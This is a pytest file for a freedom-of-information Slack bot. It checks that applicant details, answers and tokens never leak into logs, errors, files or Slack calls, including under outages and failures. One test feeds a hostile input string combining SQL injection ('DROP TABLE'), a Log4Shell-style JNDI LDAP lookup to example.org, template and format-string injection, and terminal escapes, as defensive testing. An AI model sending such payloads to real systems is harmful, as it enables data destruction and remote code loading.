"""Nothing that was told in confidence gets out of its place: not into a log, an error, a metric, a
call to Slack, a column that is not for it or a file that is left behind. Whole cases are played
with words that can be mistaken for no other, while everything that can goes wrong."""

from __future__ import annotations

import logging
import sqlite3
import tempfile
import warnings
from collections.abc import Callable
from contextlib import closing
from io import BytesIO
from pathlib import Path

import docx
import pytest
import structlog

from foi_bot import approval
from foi_bot.case import State
from foi_bot.cli import main
from store.database import Database
from store.intake import Intake
from tests.keeping.disks import no_page_is_left
from tests.secrets import canaries as c
from tests.secrets.canaries import Canary
from tests.secrets.watching import Watched
from tests.slack.office import FoiOffice
from tests.store.play import AT

Story = Callable[[FoiOffice], None]
ANSWERS = {"outcome": "disclose", "answer": c.ANSWER, "basis": c.BASIS, "people": "no"}


def masked(office: FoiOffice) -> None:
    """Send the form on what is to be masked, with what only a person can find."""
    office.officer.submit(values={"more": f"{c.OFFICE}; {c.STREET}"})


def from_a_form(office: FoiOffice) -> None:
    office.officer.command("/foi")
    entries = {"text": c.ORIGINAL, "received": "2018-03-13"}
    office.officer.submit(values={**entries, "name": c.NAME, "contact": c.CONTACT})
    masked(office)
    office.newest_case()


def from_a_message(office: FoiOffice) -> None:
    message = office.officer.say(c.ORIGINAL)
    office.officer.shortcut("open_as_request", message)
    office.officer.submit(values={"received": "2018-03-13", "name": c.NAME, "contact": c.CONTACT})
    masked(office)
    office.newest_case()


def from_a_file(office: FoiOffice) -> None:
    document = docx.Document()
    for line in c.ORIGINAL.split("\n\n"):
        document.add_paragraph(line)
    document.core_properties.author = c.NAME
    content = BytesIO()
    document.save(content)
    message = office.officer.upload("request.docx", content.getvalue())
    office.officer.shortcut("open_as_request", message)
    office.settle()
    office.officer.submit(values={"received": "2018-03-13", "name": c.NAME, "contact": c.CONTACT})
    masked(office)
    office.newest_case()


def answered(office: FoiOffice) -> None:
    """The questions answered by replies, in a box and with buttons, with talk in between."""
    office.answer("disclose")
    office.say(c.ANSWER, c.DISCUSSION)
    office.say(c.ASIDE, by=office.approver)
    office.press("Next")
    office.officer.click(office.question, "Write here")
    office.officer.submit(values={"answer": c.BASIS})
    office.settle()
    office.answer_all(ANSWERS)


def to_the_end(office: FoiOffice) -> None:
    answered(office)
    office.press("All answers", on=office.card)
    office.approve()
    assert approval.state(office.case) is State.APPROVED


def with_slack_failing(office: FoiOffice) -> None:
    """Replies are lost, calls refused, addresses never answer."""
    faults = office.slack.faults
    for value in (None, *list(ANSWERS.values())[1:]):
        faults.lose_reply("chat.postMessage")
        faults.server_error("chat.update")
        faults.refuse("chat.postMessage", "invalid_blocks")
        faults.cut_off("chat.update")
        faults.refuse("files.getUploadURLExternal", "internal_error")
        office.answer(value or "disclose")
        faults.recover()
    office.slack.permit("file_not_found")
    with faults.during_outage():
        office.lead.react(office.verdict, "white_check_mark")
        office.settle(within=120)
    office.settle()


def with_the_database_failing(office: FoiOffice) -> None:
    """It is locked while people answer and react."""
    office.answer("disclose")
    office.officer.click(office.question, "Write here")
    with closing(sqlite3.connect(office.file, isolation_level=None)) as other:
        other.execute("BEGIN IMMEDIATE")
        office.officer.submit(values={"answer": c.ANSWER})
        office.say(c.ANSWER)
        office.officer.command("/foi")
        office.officer.submit(values={"text": c.ORIGINAL, "received": "2018-03-13", "name": c.NAME})
        other.execute("ROLLBACK")
    office.slack.wait(300)
    office.settle()


def with_a_full_disk(office: FoiOffice) -> None:
    """It takes no more of what people write."""
    office.answer("disclose")
    office.officer.click(office.question, "Write here")
    office.officer.command("/foi")
    thread = office.thread
    with no_page_is_left(office):
        office.officer.reply(thread, c.ANSWER * 50)
        office.officer.submit(
            values={"text": c.ORIGINAL * 12, "received": "2018-03-13", "name": c.NAME}
        )
    office.slack.wait(300)
    office.settle()


def with_a_mistake_of_ours(office: FoiOffice) -> None:
    """What was typed breaks a listener, as a message, as a form and as a press of a button."""
    office.answer("disclose")
    office.slack.hold()
    office.say(c.ANSWER)
    (delivery,) = office.slack.post_office.waiting
    delivery.payload["event"]["ts"] = "not a timestamp"
    office.slack.release()
    office.slack.wait(300)
    broken = office.program.desk.office.houses
    object.__setattr__(office.program.desk.office, "houses", {})
    office.officer.command("/foi")
    office.say(c.ANSWER)
    object.__setattr__(office.program.desk.office, "houses", broken)
    office.settle()


def with_hostile_words(office: FoiOffice) -> None:
    """Words that are meant for a terminal, a template, a database, a log or a page."""
    office.answer("disclose")
    hostile = (
        f"{{{{ {c.ANSWER} }}}} %s {{0}} '; DROP TABLE answer; -- \x1b[2J <!channel> "
        f"${{jndi:ldap://example.org/{c.ANSWER}}} \u202e {c.BASIS}"
    )
    office.say(hostile, "x" * 3000 + c.ANSWER)
    office.press("Next")
    office.officer.command("/foi", f"show {c.ANSWER}")
    office.officer.command("/foi", c.REQUEST)
    office.answer_all({**ANSWERS, "answer": hostile, "basis": hostile})


def with_the_letter_from_word(office: FoiOffice) -> None:
    """The draft comes back from Word with the applicant's name and address put into it."""
    answered(office)
    name = next(name for name in office.files() if name.endswith(".docx"))
    opened = docx.Document(BytesIO(office.files()[name]))
    opened.paragraphs[2].insert_paragraph_before(f"{c.NAME}\n{c.STREET}\n{c.CONTACT}")
    opened.add_paragraph(f"Dear {c.NAME}")
    saved = BytesIO()
    opened.save(saved)
    dropped = office.drop(name, saved.getvalue())
    assert dropped
    compare = "Compare it with draft 1"
    office.press(compare, on=next(m for m in office.thread.messages if compare in m.buttons))


GOINGS_ON: list[Story] = [
    with_slack_failing,
    with_the_database_failing,
    with_a_full_disk,
    with_a_mistake_of_ours,
    with_hostile_words,
    with_the_letter_from_word,
]

CANARIES: list[Canary] = [
    c.APPLICANT,
    c.ASKED,
    c.ANSWERED,
    c.OFFICERS_DISCUSSION,
    c.OTHERS_DISCUSSION,
]


def tokens(office: FoiOffice) -> Canary:
    app = office.slack.workspace.app
    return Canary(
        "a token", (app.bot_token, app.app_token, app.signing_secret, "verification-token")
    )


def stays_in_place(watched: Watched) -> None:
    """Raises AssertionError that names every leak."""
    wanted = [tokens(watched.office), *CANARIES]
    leaks = [f"{one.name}: {leak}" for one in wanted for leak in watched.leaks(one)]
    assert not leaks, "\n".join(sorted(set(leaks))[:40])
    assert c.APPLICANT.found_in(watched.letters()) is None


@pytest.mark.parametrize("open_", [from_a_form, from_a_message, from_a_file])
def test_a_case_tells_nothing_outside_its_place_however_it_was_opened(
    watched: Watched, open_: Story
) -> None:
    open_(watched.office)
    to_the_end(watched.office)
    stays_in_place(watched)


@pytest.mark.parametrize("go_on", GOINGS_ON)
def test_a_case_tells_nothing_outside_its_place_whatever_goes_wrong(
    watched: Watched, go_on: Story
) -> None:
    from_a_form(watched.office)
    go_on(watched.office)
    stays_in_place(watched)


def test_what_goes_wrong_is_seen(watched: Watched) -> None:
    """What is collected is not empty: errors were raised, and lines were logged of them."""
    from_a_form(watched.office)
    with_a_mistake_of_ours(watched.office)
    with_a_full_disk(watched.office)
    raised = {error.split(":")[0] for error in watched.errors}
    assert {"UnavailableError", "OperationalError", "ValueError"} <= raised
    assert "delivery failed" in watched.said.getvalue()
    assert "foi_deliveries" in watched.counted()


LEAKS: dict[str, Story] = {
    "a log line": lambda _: structlog.get_logger().info("opened", name=c.NAME),
    "a library's log line": lambda _: logging.getLogger("bolt").error("for %s", c.CONTACT),
    "a warning": lambda _: warnings.warn(c.STREET, stacklevel=1),
    "a column": lambda office: _written(office, f"UPDATE foi_case SET house = '{c.NAME}'"),
    "a call": lambda office: _called(office, c.OFFICE),
    "a file": lambda _: _left(c.NAME),
    "a token": lambda office: _written(
        office, f"UPDATE foi_case SET request_text = '{office.slack.bot_token}'"
    ),
}


@pytest.mark.parametrize("leak", LEAKS)
def test_a_leak_is_found(watched: Watched, leak: str) -> None:
    from_a_form(watched.office)
    LEAKS[leak](watched.office)
    with pytest.raises(AssertionError, match=r"the applicant|a token"):
        stays_in_place(watched)


def _written(office: FoiOffice, statement: str) -> None:
    with office.program.database.writing() as connection:
        connection.exec_driver_sql(statement)


def _left(words: str) -> None:
    Path(tempfile.mkdtemp(), "left").write_text(words)


def _called(office: FoiOffice, words: str) -> None:
    office.slack.wait(60)
    office.slack.client().chat_postMessage(channel=office.case.channel, text=words)


def test_what_holds_an_applicant_does_not_show_it(watched: Watched) -> None:
    """Whoever prints one, or a tool that shows the locals of a traceback, learns nothing."""
    kept = Intake("T1", "1", "U1", "C1", "h", c.ORIGINAL, None, c.NAME, c.CONTACT, AT)
    assert c.APPLICANT.found_in(repr(kept)) is None
    program = watched.office.program
    shown = (program, program.settings, program.desk, program.sender, program.database.engine)
    assert tokens(watched.office).found_in(" ".join(map(repr, shown))) is None


@pytest.mark.parametrize("url", ["postgresql://foi:basilisk@127.0.0.1:9/foi", "sqlite:///x"])
def test_a_password_of_the_database_is_never_told(
    url: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("DATABASE_URL", url)
    for command in (["audit", "verify"], ["backup", "kept"], ["restore", "kept"]):
        assert main(command) in (1, 2)
        told = capsys.readouterr()
        assert "basilisk" not in told.out + told.err
        assert "Traceback" not in told.err
    assert "basilisk" not in repr(Database(url).url)
